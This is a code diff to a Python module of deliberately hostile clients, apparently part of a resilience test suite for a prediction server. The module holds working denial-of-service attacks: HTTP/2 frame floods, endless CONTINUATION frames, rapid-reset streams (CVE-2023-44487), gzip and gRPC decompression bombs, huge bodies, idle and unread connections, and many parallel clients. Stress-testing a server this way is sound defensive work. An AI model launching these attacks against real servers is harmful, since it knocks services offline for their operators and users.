@@ -1,13 +1,13 @@
 """Clients that mean harm: what each sends, on one connection or many, for some seconds."""
 
-import gzip
 import socket
 import threading
 import time
 import zlib
 from collections.abc import Callable, Iterator
+from concurrent.futures import ThreadPoolExecutor
 from contextlib import suppress
-from functools import partial
+from functools import cache, partial
 from itertools import count, repeat
 
 from hpack import Encoder
@@ -29,8 +29,8 @@ BLOCK = Encoder().encode(FIELDS, huffman=False)
 HEAD = b"POST /predict HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
 PING = b"GET /health/ping HTTP/1.1\r\nHost: x\r\n\r\n"
 
-#: Attacks a port for so many seconds.
-Attack = Callable[[int, float], None]
+#: Attacks a port for so many seconds; whether the server has sent the attacker away.
+Attack = Callable[[int, float], bool]
 
 
 def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
@@ -39,44 +39,53 @@ def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
     return head + payload
 
 
-def send(port: int, seconds: float, parts: Iterator[bytes], *, reads: bool = True) -> None:
-    """Send parts as fast as the server takes them, until it closes or the time is over."""
-    until = time.monotonic() + seconds
+def send(port: int, seconds: float, parts: Iterator[bytes], *, reads: bool = True) -> bool:
+    """Send parts as fast as the server takes them, until it closes or the time is over.
+
+    Returns whether it has closed.
+    """
+    until, is_closed = time.monotonic() + seconds, threading.Event()
     with suppress(OSError), socket.create_connection((HOST, port), CONNECT_SECONDS) as connection:
         connection.settimeout(seconds)
         if reads:
-            threading.Thread(target=drain, args=(connection,), daemon=True).start()
+            threading.Thread(target=drain, args=(connection, is_closed), daemon=True).start()
         for part in parts:
             connection.sendall(part)
             if time.monotonic() > until:
-                return
-        time.sleep(max(until - time.monotonic(), 0))
+                return is_closed.is_set()
+        return is_closed.wait(max(until - time.monotonic(), 0))
+    return True
 
 
-def drain(connection: socket.socket) -> None:
+def drain(connection: socket.socket, is_closed: threading.Event) -> None:
     """Read what comes, and keep none of it."""
-    with suppress(OSError):
+    try:
         while connection.recv(2**16):
             pass
+    except TimeoutError:
+        return
+    except OSError:  # reset, or closed here
+        pass
+    is_closed.set()
 
 
-def flood(kind: int, flags: int, stream: int, payload: bytes, port: int, seconds: float) -> None:
+def flood(kind: int, flags: int, stream: int, payload: bytes, port: int, seconds: float) -> bool:
     """One kind of frame again and again, on a stream that is open."""
 
     def parts() -> Iterator[bytes]:
         yield PREFACE + frame(4, 0, 0) + frame(4, 1, 0) + frame(1, 4, 1, BLOCK)
         yield from repeat(frame(kind, flags, stream, payload) * 500)
 
-    send(port, seconds, parts())
+    return send(port, seconds, parts())
 
 
-def continuations(port: int, seconds: float) -> None:
+def continuations(port: int, seconds: float) -> bool:
     """A header block that never ends."""
     start = PREFACE + frame(4, 0, 0) + frame(1, 0, 1)
-    send(port, seconds, iter([start, *[frame(9, 0, 1) * 500] * 1000]))
+    return send(port, seconds, iter([start, *[frame(9, 0, 1) * 500] * 1000]))
 
 
-def resets(port: int, seconds: float) -> None:
+def resets(port: int, seconds: float) -> bool:
     """Streams that are opened and given up at once (CVE-2023-44487)."""
 
     def parts() -> Iterator[bytes]:
@@ -87,62 +96,65 @@ def resets(port: int, seconds: float) -> None:
                 frame(1, 4, stream, BLOCK) + frame(3, 0, stream, bytes(4)) for stream in streams
             )
 
-    send(port, seconds, parts())
+    return send(port, seconds, parts())
 
 
-def over_rest(start: bytes, part: bytes, port: int, seconds: float) -> None:
+def over_rest(start: bytes, part: bytes, port: int, seconds: float) -> bool:
     """Bytes of HTTP/1 again and again, after a start."""
 
     def parts() -> Iterator[bytes]:
         yield start
         yield from repeat(part)
 
-    send(port, seconds, parts())
+    return send(port, seconds, parts())
 
 
-def bodies(size: int, part: bytes, port: int, seconds: float) -> None:
+def bodies(size: int, part: bytes, port: int, seconds: float) -> bool:
     """A body of so many bytes, made of parts."""
     head = HEAD + b"Content-Length: %d\r\n\r\n" % size
-    send(port, seconds, iter([head, *[part] * (size // len(part))]))
+    return send(port, seconds, iter([head, *[part] * (size // len(part))]))
 
 
-def rest_bomb(port: int, seconds: float) -> None:
-    """A body that inflates to 300 MB."""
-    body = gzip.compress(b'{"strData":"' + b"a" * (300 * MEGABYTE) + b'"}', 1)
-    head = HEAD + b"Content-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(body)
-    send(port, seconds, iter([head, body]))
-
-
-def grpc_bomb(port: int, seconds: float) -> None:
-    """A message of a few kilobytes that inflates to 60 MB."""
+@cache
+def inflating(megabytes: int) -> bytes:
+    """So much of nothing, compressed with gzip."""
     packer = zlib.compressobj(9, wbits=16 + zlib.MAX_WBITS)
-    packed = packer.compress(bytes(60 * MEGABYTE)) + packer.flush()
+    return packer.compress(bytes(megabytes * MEGABYTE)) + packer.flush()
+
+
+def rest_bomb(port: int, seconds: float) -> bool:
+    """A body that inflates to 300 MB: a file of gzip's may have several members."""
+    body = inflating(60) * 5
+    head = HEAD + b"Content-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(body)
+    return send(port, seconds, iter([head, body]))
+
+
+def grpc_bomb(port: int, seconds: float) -> bool:
+    """A message of a few kilobytes that inflates to 60 MB."""
+    packed = inflating(60)
     data = b"\1" + len(packed).to_bytes(4, "big") + packed
     pieces = [data[place : place + 16_000] for place in range(0, len(data), 16_000)]
     frames = [frame(0, 0, 1, piece) for piece in pieces[:-1]] + [frame(0, 1, 1, pieces[-1])]
     start = PREFACE + frame(4, 0, 0) + frame(1, 4, 1, BLOCK)
-    send(port, seconds, iter([start, *frames]))
+    return send(port, seconds, iter([start, *frames]))
 
 
-def unread(port: int, seconds: float) -> None:
+def unread(port: int, seconds: float) -> bool:
     """Answers of 8 MB that nobody reads."""
     body = b'{"strData":"' + b"a" * (8 * MEGABYTE) + b'"}'
     head = HEAD + b"Content-Length: %d\r\n\r\n" % len(body)
-    send(port, seconds, iter([head, body]), reads=False)
+    return send(port, seconds, iter([head, body]), reads=False)
 
 
-def idle(port: int, seconds: float) -> None:
+def idle(port: int, seconds: float) -> bool:
     """A connection on which nothing is said."""
-    send(port, seconds, iter([b""]))
+    return send(port, seconds, iter([b""]))
 
 
-def many(attack: Attack, times: int, port: int, seconds: float) -> None:
+def many(attack: Attack, times: int, port: int, seconds: float) -> bool:
     """The same by several clients at once."""
-    clients = [threading.Thread(target=attack, args=(port, seconds)) for _ in range(times)]
-    for client in clients:
-        client.start()
-    for client in clients:
-        client.join()
+    with ThreadPoolExecutor(times) as clients:
+        return all(clients.map(attack, [port] * times, [seconds] * times))
 
 
 CHUNKED = HEAD + b"Transfer-Encoding: chunked\r\n\r\n"
@@ -163,6 +175,8 @@ REST_FLOODS: dict[str, Attack] = {
     "chunks of one byte": partial(over_rest, CHUNKED, b"1\r\nx\r\n" * 10_000),
     "header fields without end": partial(over_rest, b"GET / HTTP/1.1\r\n", b"a: b\r\n" * 100),
 }
+#: Floods that the protocol has a word for, with which the attacker is sent away.
+SENT_AWAY = {*GRPC_FLOODS, "header fields without end"}
 #: What takes memory, for REST's port and for gRPC's.
 REST_HOGS: dict[str, Attack] = {
     "30 bodies of 200 MB": partial(many, partial(bodies, 200 * MEGABYTE, b"a" * MEGABYTE), 30),
